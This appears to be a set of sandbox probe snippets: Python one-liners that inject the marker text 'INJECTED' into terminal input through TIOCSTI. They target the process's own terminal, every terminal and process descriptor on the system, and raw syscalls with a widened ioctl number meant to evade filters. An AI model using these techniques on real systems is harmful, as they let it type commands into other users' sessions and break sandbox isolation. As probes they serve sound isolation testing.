### characters put into standard input
#terminal
python3 -c "
import fcntl, termios
for fd in (0, 1, 2):
    for letter in b'INJECTED\n':
        try: fcntl.ioctl(fd, termios.TIOCSTI, bytes([letter]))
        except OSError as error: print(error)"
### characters put into the controlling terminal
#terminal
python3 -c "
import fcntl, os, termios
try:
    held = os.open('/dev/tty', os.O_RDWR)
    for letter in b'INJECTED\n': fcntl.ioctl(held, termios.TIOCSTI, bytes([letter]))
except OSError as error: print(error)"
### characters put into every terminal
#terminal
#alone: there are terminals of others
python3 -c "
import fcntl, glob, os, termios
for place in glob.glob('/dev/pts/*') + glob.glob('/dev/tty*') + glob.glob('/proc/[0-9]*/fd/[012]'):
    try:
        held = os.open(place, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)
        try: fcntl.ioctl(held, termios.TIOCSCTTY, 1)
        except OSError: pass
        for letter in b'INJECTED\n': fcntl.ioctl(held, termios.TIOCSTI, bytes([letter]))
    except OSError: pass"
### by the other interface of a console, and with the number widened
#terminal
python3 -c "
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for fd in (0, 1, 2):
    for letter in b'INJECTED\n':
        libc.syscall(16, fd, ctypes.c_ulong(0x5412 | 1 << 32), ctypes.create_string_buffer(bytes([letter])))
        libc.syscall(16, fd, ctypes.c_ulong(0x541C), ctypes.create_string_buffer(b'\x02' + bytes([letter])))"
